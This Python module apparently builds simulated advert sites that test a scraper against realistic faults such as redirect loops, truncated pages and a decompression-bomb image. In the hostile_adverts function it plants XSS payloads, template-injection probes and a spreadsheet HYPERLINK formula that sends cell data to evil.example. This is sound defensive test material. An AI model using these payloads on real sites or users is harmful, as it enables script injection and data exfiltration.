"""What the demo sites answer to each request: adverts, index pages, pictures, and everything that goes wrong.

Every site has the faults of real ones: adverts gone in three ways, the same advert twice at the edge
of two pages or under two addresses, forbidden paths, a redirect loop, a broken page, a page in
another charset, an empty last page, and a hostile advert.
"""

from __future__ import annotations

from collections import Counter
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field, replace
from datetime import UTC, datetime
from functools import lru_cache
from urllib.parse import urlsplit

from leadline.app.demo.pages import HOSTS, PER_PAGE, index_page, index_path, listing_page, listing_path
from leadline.app.demo.pictures import PictureSpec, decompression_bomb, draw
from leadline.app.demo.world import Advert, World
from leadline.core.values import sha256

_PICTURE_PATHS = {"demo-jobs": "/media/", "demo-classifieds": "/pics/", "demo-market": "/photo/"}
_FORBIDDEN = {"demo-jobs": "/job/internal-", "demo-classifieds": "/members/", "demo-market": "/item/hidden-"}
BOMB = "panorama.png"
#: Bytes of the body nobody should read to its end.
HUGE = 10_000_000


@dataclass(frozen=True, slots=True)
class Answer:
    """One HTTP answer. ``cut`` promises more bytes than it sends, as a broken connection would."""

    status: int
    body: bytes
    media_type: str = "text/html; charset=utf-8"
    location: str = ""
    cut: bool = False


@dataclass
class Site:
    """One site: its fixed answers by path, and what was asked of it."""

    name: str
    fixed: dict[str, Answer]
    adverts: Mapping[str, Advert]  # by path
    pictures: Mapping[str, PictureSpec]
    asked: Counter[str] = field(default_factory=Counter)

    @property
    def host(self) -> str:
        """The name the site goes by."""
        return HOSTS[self.name]

    def answer(self, target: str) -> Answer:
        """Answer a request for a path with its query."""
        self.asked[target] += 1
        if target in self.fixed:
            return self.fixed[target]
        path = urlsplit(target).path
        if path in self.adverts:
            return Answer(200, listing_page(self.adverts[path]).encode())
        folder = _PICTURE_PATHS[self.name]
        if path.startswith(folder):
            name = path.removeprefix(folder)
            if name in self.pictures:
                return Answer(200, _drawn(self.pictures[name]), "image/jpeg")
            if name == BOMB:
                return Answer(200, _bomb(), "image/png")
        return self.fixed.get(path, Answer(404, b"<h1>Not found</h1>"))


@lru_cache(maxsize=2_000)
def _drawn(spec: PictureSpec) -> bytes:
    return draw(spec)


@lru_cache(maxsize=1)
def _bomb() -> bytes:
    return decompression_bomb()


def build_sites(world: World) -> dict[str, Site]:
    """The sites that publish a world, by source name."""
    return {name: _site(name, [advert for advert in world.adverts if advert.site == name], world) for name in HOSTS}


def hostile_adverts() -> list[Advert]:
    """Adverts that attack whoever reads them; two of them share a number, so that they become a lead."""
    script = "<script>document.title='owned'</script><img src=x onerror=alert(1)>"
    one = Advert(
        site="demo-classifieds",
        id="66600001",
        title=f"Bargain {script}",
        body=f"Nice bicycle {script}\n\"'><svg onload=alert(2)> {{{{7*7}}}} ${{7*7}} javascript:alert(3)\nTel. 020 7946 0999",
        posted_at=datetime(2026, 10, 7, 10, 7, tzinfo=UTC),
        place="Camden, London",
        country="GB",
        category="for sale",
        price='=HYPERLINK("http://evil.example/?"&A1,"10")',
        currency="GBP",
        employer="",
        phone="",
        pictures=(BOMB,),
    )
    two = replace(one, site="demo-market", id="BADDKRST", title=f"Another {script}", price="=1+1", pictures=())
    return [one, two]


def _site(name: str, adverts: list[Advert], world: World) -> Site:
    adverts = adverts + [advert for advert in hostile_adverts() if advert.site == name]
    adverts.sort(key=lambda advert: (advert.posted_at, advert.id), reverse=True)
    paths = {listing_path(name, advert.id): advert for advert in adverts}
    fixed, rows = _faults(name, adverts)
    rows += [(path, advert.title, advert.place, f"{advert.posted_at:%d %b}") for path, advert in paths.items()]
    # Faults stand among the adverts, at places that follow from their address alone.
    faulty = len(rows) - len(paths)
    for row in rows[:faulty]:
        rows.insert(faulty + int(sha256(row[0])[:8], 16) % len(paths), row)
    rows = rows[faulty:]
    fixed.update(_indexes(name, rows))
    return Site(name, fixed, paths, world.pictures)


def _indexes(name: str, rows: Sequence[tuple[str, str, str, str]]) -> dict[str, Answer]:
    """Index pages whose edges overlap by one row, and an empty one at the end."""
    step = PER_PAGE[name]
    pages = max(1, -(-len(rows) // step))
    found = {}
    for page in range(1, pages + 2):
        part = rows[max(0, (page - 1) * step - 1) : page * step] if page <= pages else []
        following = index_path(name, page + 1) if page <= pages else None
        found[index_path(name, page)] = Answer(200, index_page(name, part, following).encode())
    found["/robots.txt"] = Answer(
        200,
        f"User-agent: *\nDisallow: {_FORBIDDEN[name]}\nDisallow: /basket\nDisallow: /employers/\n".encode(),
        "text/plain",
    )
    found["/"] = Answer(200, f"<h1>{name}</h1><a href='{index_path(name, 1)}'>Adverts</a>".encode())
    return found


def _faults(name: str, adverts: Sequence[Advert]) -> tuple[dict[str, Answer], list[tuple[str, str, str, str]]]:
    """Answers that go wrong, and the index rows that lead to them."""

    def page(own_id: str) -> str:
        return listing_path(name, own_id)

    sample = adverts[len(adverts) // 2]
    secret = replace(sample, title="Members only", body="This page is closed to robots.", pictures=())
    forbidden = _FORBIDDEN[name] + ("9.html" if name == "demo-classifieds" else "9")
    expired = b"<!doctype html><title>Expired</title><h1>This advert has expired</h1><p>It is no longer available.</p>"
    gone = {"demo-jobs": ("aaaaaaaa", "bbbbbbbb", "cccccccc"), "demo-classifieds": ("400", "401", "402")}.get(
        name, ("XXXXAAAA", "XXXXBBBB", "XXXXCCCC")
    )
    loop = {"demo-jobs": ("dddddd1", "dddddd2"), "demo-classifieds": ("501", "502")}.get(name, ("LOOPAAAA", "LOOPBBBB"))
    broken, huge, foreign = {
        "demo-jobs": ("eeeee1", "eeeee2", "eeeee3"),
        "demo-classifieds": ("601", "602", "603"),
    }.get(name, ("BROKENXX", "HUGEXXXX", "FOREIGNX"))
    whole = listing_page(replace(sample, id=broken, title="Cut off", pictures=())).encode()
    fixed = {
        forbidden: Answer(200, listing_page(secret).encode()),
        page(gone[0]): Answer(404, b"<h1>Not found</h1>"),
        page(gone[1]): Answer(410, b"<h1>Gone</h1>"),
        page(gone[2]): Answer(200, expired),
        page(loop[0]): Answer(302, b"", location=page(loop[1])),
        page(loop[1]): Answer(302, b"", location=page(loop[0])),
        page(broken): Answer(200, whole[: len(whole) // 2], cut=True),
    }
    if name == "demo-classifieds":
        heavy = replace(sample, id=huge, title="Very long", body="long " * (HUGE // 5), pictures=())
        fixed[page(huge)] = Answer(200, listing_page(heavy).encode())
        old = replace(
            sample, id=foreign, title="Książki i płyty, Łódź", body="Oddam za darmo książki, płyty i żółtą lampę. Świetny stan.",
            place="Łódź", country="PL", category="for sale", price="", employer="", phone="", pictures=(),
        )  # fmt: skip
        text = listing_page(old).replace('<meta charset="utf-8">', "")
        fixed[page(foreign)] = Answer(200, text.encode("iso-8859-2"), "text/html; charset=iso-8859-2")
    rows = [(path, "Advert", sample.place, "01 Oct") for path in fixed]
    # The same advert under a second address: a copy of the page elsewhere, or one that redirects.
    path = listing_path(name, sample.id)
    if name == "demo-market":
        second = f"{path}/offer"
        fixed[second] = Answer(200, listing_page(sample).encode())
        rows.append((second, sample.title, sample.place, "01 Oct"))
    else:
        second = f"{path}?from=newsletter"
        rows.append((second, sample.title, sample.place, "01 Oct"))
    return fixed, rows
